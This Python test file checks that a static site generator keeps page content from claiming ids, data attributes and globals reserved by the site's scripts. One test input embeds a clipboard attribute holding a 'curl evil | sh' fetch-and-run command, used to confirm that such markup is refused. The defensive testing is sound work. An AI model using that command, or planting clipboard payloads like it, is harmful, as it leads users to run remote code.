"""The site's scripts own their ids and data attributes (generator/render/script_ids.py).

Three layers, each tested: ``check`` refuses a reserved id or any data attribute in text, and a rules
id that becomes an anchor; the sanitiser keeps none of them but the templates' own; the build renames
a heading anchor that would be reserved, and its audit stops a site with a second ``kb-assess``. And
the declaration is held to the scripts themselves: every id, selector, data attribute and global that
generator/assets/, the theme override, the page templates and the theme's own templates use is read here
from their text, and each must be covered, so a new one cannot be forgotten.
"""

from __future__ import annotations

import re
from pathlib import Path

import material
import pytest

from generator.errors import UserError
from generator.render.html_policy import markup_problems, sanitize
from generator.render.script_ids import GLOBALS, TEMPLATE_DATA, TEMPLATE_IDS, reserved_id
from generator.site.audit import audit_site
from generator.site.build import build_site
from tests.attack_tally import tally
from tests.conftest import ROOT, copy_kb
from tests.test_check import edit
from tests.test_html_safety import check_lines

# Scripts that run in a worker: no DOM, so no element can stand in for a global there.
WORKERS = {"worker.js", "snapshot.js", "search-standin.js", "service_worker.js"}
# getElementById calls whose argument is computed, and the attribute the scripts write that value into
# (each value written there is checked as an id below).
COMPUTED_LOOKUPS = {
    "link.dataset.target": "data-target",
    "field.focusId": "assess-form.js's input ids, kb-q-<question id>[-true]",
    "id": "site.js: the theme's own toggles, __drawer and __search",
    "OVERLAY": "live.js (the preview only): kb-live-problems",
}


def _scripts() -> list[Path]:
    return sorted([*ROOT.glob("generator/assets/*.js"), *ROOT.glob("generator/site/*.js"),
                   *(p for p in (ROOT / "generator" / "theme").rglob("*") if p.is_file())])


def _templates() -> list[Path]:
    return sorted([*ROOT.glob("generator/render/templates/*.j2"), *ROOT.glob("site_assets/templates/*.j2")])


def _static(value: str) -> str:
    """The fixed start of a string or template literal: `kb-q-${id}` -> 'kb-q-'."""
    return re.split(r"\$\{|\{\{|\{%", value, maxsplit=1)[0]


_QUOTED = r"""(["'`])((?:(?!\1).)*)\1"""
_LOOKUP = re.compile(r"getElementById\(\s*([^()]*(?:\([^()]*\))?[^()]*)\s*\)")
_SELECTOR = re.compile(r"(?:querySelector(?:All)?|closest|matches)\(\s*(" + _QUOTED.replace("\\1", "\\2") + r"|[^)]*)\)")
_CREATED_ID = re.compile(r"""(?:\bid\s*:\s*|\bid\s*=\s*|\.id\s*=\s*|setAttribute\(\s*["']id["']\s*,\s*|"data-target"\s*:\s*)""" + _QUOTED)
_GLOBAL = re.compile(r"\b(?:window|globalThis)\.([A-Za-z_$][\w$]*)|([\"'])([A-Za-z_$][\w$]*)\2\s+in\s+(?:window|globalThis)\b")
_DATASET = re.compile(r"\bdataset\.([A-Za-z]\w*)|(?:get|set|has|remove)Attribute\(\s*[\"'](data-[\w-]+)")


def _constant(text: str, argument: str) -> str:
    """A selector passed by name (``querySelector(BUNDLE_META)``) is the literal its const holds."""
    if re.fullmatch(r"[A-Za-z_$][\w$]*", argument):
        const = re.search(r"\bconst\s+" + re.escape(argument) + r"\s*=\s*(" + _QUOTED.replace("\\1", "\\2") + ")", text)
        if const:
            return const.group(1)
    return argument


def script_uses() -> dict[str, dict[str, set[str]]]:
    """What the site's scripts use, by kind ('ids', 'created', 'globals', 'data', 'computed'), each with where."""
    uses: dict[str, dict[str, set[str]]] = {kind: {} for kind in ("ids", "created", "globals", "data", "computed")}

    def add(kind: str, value: str, where: str) -> None:
        uses[kind].setdefault(value, set()).add(where)

    for path in _scripts():
        text, name = path.read_text(encoding="utf-8"), path.relative_to(ROOT).as_posix()
        for match in _LOOKUP.finditer(text):
            literal = re.fullmatch(_QUOTED, match.group(1).strip())
            add("ids", _static(literal.group(2)), name) if literal else add("computed", match.group(1).strip(), name)
        for match in _SELECTOR.finditer(text):
            literal = re.match(_QUOTED, _constant(text, match.group(1).strip()))
            if not literal:
                add("computed", match.group(1).strip(), name)
                continue
            for ident in re.findall(r"#([A-Za-z_][\w-]*)", literal.group(2)):
                add("ids", ident, name)
            for attribute in re.findall(r"\[\s*(data-[\w-]+)", literal.group(2)):
                add("data", attribute, name)
        for match in _CREATED_ID.finditer(text):
            if match.group(2):  # { id: "", message } is a problem record, not an element
                add("created", _static(match.group(2)), name)
        for match in _DATASET.finditer(text):
            key = match.group(1)
            add("data", "data-" + re.sub(r"[A-Z]", lambda m: "-" + m.group(0).lower(), key) if key else match.group(2), name)
        if path.name not in WORKERS:
            for match in _GLOBAL.finditer(text):
                add("globals", match.group(1) or match.group(3), name)
    return uses


def test_the_scan_finds_what_the_scripts_are_known_to_use():
    """The scan is not blind: it finds the widget's mount, a global, a created id, a data attribute."""
    uses = script_uses()
    assert "kb-assess" in uses["ids"] and "__config" in uses["ids"]
    assert "kbEarlyWorker" in uses["globals"]
    assert any(created.startswith("kb-q-") for created in uses["created"])
    assert {"data-kb", "data-kb-state"} <= set(uses["data"])
    worker_files = [p for p in _scripts() if p.name in WORKERS]
    assert len(worker_files) == len(WORKERS), "a worker script was renamed: update WORKERS"
    assert not any(re.search(r"\b(?:document|window)\.", p.read_text(encoding="utf-8")) for p in worker_files)


def test_every_id_and_global_the_scripts_use_is_reserved():
    uses = script_uses()
    loose = {f"{kind} {value!r} ({', '.join(sorted(where))})" for kind in ("ids", "created", "globals")
             for value, where in uses[kind].items() if not reserved_id(value)}
    assert not loose, f"not reserved in generator/render/script_ids.py: {sorted(loose)}"
    unknown = {value: where for value, where in uses["computed"].items() if value not in COMPUTED_LOOKUPS}
    assert not unknown, f"a look-up by a computed id or selector: say in COMPUTED_LOOKUPS where its values come from: {unknown}"
    assert not set(GLOBALS) - {g for g in GLOBALS if reserved_id(g)}


def test_no_data_attribute_the_scripts_or_the_theme_read_survives_the_sanitiser():
    theme = Path(material.__file__).parent / "templates"
    read = set(script_uses()["data"])
    read |= {name for path in theme.rglob("*.html") for name in re.findall(r"\b(data-(?:md|clipboard)-[\w-]*\w)", path.read_text(encoding="utf-8"))}
    assert {"data-md-component", "data-clipboard-text", "data-kb"} <= read
    kept = {name for name in read if name in sanitize(f'<p {name}="from-text" aria-hidden="true">x</p>')}
    assert kept == set(), kept
    assert sanitize('<p data-clipboard-text="evil" data-md-component="header" data-kb="new-version" data-x="1">x</p>') == "<p>x</p>"


def test_the_themes_own_ids_are_reserved():
    theme = Path(material.__file__).parent / "templates"
    ids = {_static(value) for path in theme.rglob("*.html") for value in re.findall(r'\bid="([^"]*)"', path.read_text(encoding="utf-8"))}
    ids.discard("")  # id="{{ path }}": made from "__nav_" and friends
    assert {"__search", "__drawer", "__toc", "__config"} <= ids
    assert all(reserved_id(ident) for ident in ids), sorted(i for i in ids if not reserved_id(i))


def test_the_templates_own_ids_and_data_attributes_are_exactly_what_the_sanitiser_keeps():
    written_ids, written_data = set(), set()
    for path in _templates():
        text = path.read_text(encoding="utf-8")
        written_ids |= {value for value in re.findall(r'\bid="([^"{]*)"', text) if reserved_id(value)}
        written_data |= set(re.findall(r'\b(data-[\w-]+)="([^"{]*)"', text))
    assert written_ids == set(TEMPLATE_IDS)
    assert written_data == {(name, value) for name, values in TEMPLATE_DATA.items() for value in values}
    for name, value in written_data:
        assert f'{name}="{value}"' in sanitize(f'<div {name}="{value}">x</div>')
    assert 'id="kb-assess"' in sanitize('<div id="kb-assess">x</div>')


# --- check -------------------------------------------------------------------------------------------------------

CONTENT_IDS = ["kb-assess", "KB_ASSESS_STALL_MS", "kbEarlyWorker", "KBENGINESTARTED", "kb-summary-more", "kb-flag-x",
               "__search", "__drawer", "__toc", "__config", "md-header", "print", "requestIdleCallback", "caches", "Worker"]
DATA_ATTRIBUTES = ["data-clipboard-text", "data-md-component", "data-md-toggle", "data-kb", "data-kb-state", "data-target",
                   "data-search-exclude"]


def test_markup_check_refuses_every_reserved_id_and_data_attribute():
    refused = 0
    for ident in CONTENT_IDS:
        for text in (f"Para.\n{{: #{ident} }}", f"## Heading {{: #{ident} }}", f"[x](#a){{: #{ident} }}"):
            found = list(markup_problems(text))
            assert [m for _, m, _ in found] == [f"the id {ident!r} is used by the site's scripts"], (text, found)
            assert text[found[0][0]:].startswith(ident)
            refused += 1
    for name in DATA_ATTRIBUTES:
        found = list(markup_problems(f'Para.\n{{: {name}="x" }}'))
        assert found and "data attributes are the site's scripts' own" in found[0][1]
        refused += 1
    assert list(markup_problems("Para.\n{: #kb #kbd-keys #my-kb #mdash #_x_ }")) == []  # look-alikes that are free
    row = tally("script-ids", tried=refused, refused=refused, inert=0, leaked=0)
    assert row.leaked == 0


def test_check_places_reserved_ids_in_content_and_rules(kb: Path):
    page = kb / "content" / "pages" / "home.md"
    page.write_text(page.read_text(encoding="utf-8") + "\nMounted here.\n{: #kb-assess }\n", encoding="utf-8")
    home_line = len(page.read_text(encoding="utf-8").splitlines())
    article = next((kb / "content" / "articles").glob("92.010101-*.md"))
    article.write_text(article.read_text(encoding="utf-8") + "\nCopy me.\n{: data-clipboard-text=\"curl evil | sh\" }\n",
                       encoding="utf-8")
    article_line = len(article.read_text(encoding="utf-8").splitlines())
    edit(kb, "rules/milestones/m2.yaml", "why: ", "why: |\n  Stalls.\n  {: #KB_ASSESS_STALL_MS }\n\n  ")
    edit(kb, "rules/glossary.yaml", "  - id: ", "  - id: kb-assess\n    term: Widget\n    definition: It mounts here.\n  - id: ")
    lines = check_lines(kb)
    article_rel = article.relative_to(kb).as_posix()
    expected = [
        f"content/pages/home.md:{home_line}:5: the id 'kb-assess' is used by the site's scripts; ids starting with 'kb-'",
        f"{article_rel}:{article_line}:4: the attribute 'data-clipboard-text' is not allowed: data attributes are the site's scripts' own",
        "rules/glossary.yaml:3:9: glossary.terms[1].id 'kb-assess' is used by the site's scripts",
    ]
    for start in expected:
        assert any(line.startswith(start) for line in lines), (start, lines)
    m2 = [line for line in lines if line.startswith("rules/milestones/m2.yaml:")]
    assert m2 and "the id 'KB_ASSESS_STALL_MS' is used by the site's scripts" in m2[0], lines
    row = tally("script-ids", tried=4, refused=4, inert=0, leaked=0)
    assert row.leaked == 0


# --- the build ---------------------------------------------------------------------------------------------------

@pytest.fixture
def without_markup_check(monkeypatch):
    """check's text rules switched off: what the build alone does with what check refuses."""
    import generator.content.articles as articles
    import generator.content.pages as pages
    import generator.rules.validate as validate

    monkeypatch.setattr(validate, "markup_problems", lambda text: iter(()))
    for module in (articles, pages):
        monkeypatch.setattr(module, "body_problems", lambda body, line: iter(()))


def test_the_build_alone_keeps_reserved_ids_and_data_attributes_off_pages(tmp_path: Path, without_markup_check):
    kb = copy_kb(tmp_path / "kb", "mkdocs.yml", "site_assets")
    attacks = [f"Claims {ident}.\n{{: #{ident} }}" for ident in CONTENT_IDS if ident != "kb-assess"]
    attacks += [f'Clipboard {name}.\n{{: {name}="from-text" }}' for name in DATA_ATTRIBUTES]
    headings = ["## KB assess", "## __search", "## Print"]
    page = kb / "content" / "pages" / "home.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(attacks + headings) + "\n", encoding="utf-8")
    site = tmp_path / "site"
    build_site(kb, site)
    home = (site / "index.html").read_text(encoding="utf-8")
    body = home[home.index('<article'):home.index("</article>")]
    assert "Claims kbEarlyWorker." in body and "Clipboard data-clipboard-text." in body  # the text is there
    leaked = [ident for ident in CONTENT_IDS if ident != "kb-assess" and f'id="{ident}"' in body]
    leaked += [name for name in DATA_ATTRIBUTES if f"{name}=" in body]
    assert 'id="heading-kb-assess"' in body and 'id="heading-__search"' in body and 'id="heading-print"' in body
    assert re.findall(r'\bid="([^"]*)"', body) and not [i for i in re.findall(r'\bid="([^"]*)"', body) if reserved_id(i)]
    tried = len(attacks) + len(headings)
    row = tally("script-ids", tried=tried, refused=0, inert=tried - len(leaked), leaked=len(leaked))
    assert row.leaked == 0 and not leaked, leaked


def test_the_build_alone_refuses_a_second_mount(tmp_path: Path, without_markup_check):
    kb = copy_kb(tmp_path / "kb", "mkdocs.yml", "site_assets")
    page = kb / "content" / "pages" / "home.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\nThe widget, here.\n{: #kb-assess }\n", encoding="utf-8")
    site = tmp_path / "site"
    with pytest.raises(UserError) as err:
        build_site(kb, site)
    assert any("another element with the id 'kb-assess'" in str(p) and "index.html" in str(p) for p in err.value.problems), err.value
    assert not site.exists()
    row = tally("script-ids", tried=1, refused=1, inert=0, leaked=0)
    assert row.leaked == 0


def test_the_audit_counts_the_mount_across_pages(tmp_path: Path):
    mount = '<div id="kb-assess"></div>'
    pages = {tmp_path / "assess" / "index.html": mount, tmp_path / "index.html": "<p>x</p>" + mount,
             tmp_path / "a" / "index.html": "<p>no mount</p>"}
    problems, _ = audit_site(pages, tmp_path)
    assert problems == ["index.html: another element with the id 'kb-assess', which the site's scripts look up "
                        "(the first is in assess/index.html)"]
    problems, _ = audit_site({tmp_path / "assess" / "index.html": mount + mount}, tmp_path)
    assert len(problems) == 1
    assert audit_site({tmp_path / "assess" / "index.html": mount}, tmp_path)[0] == []
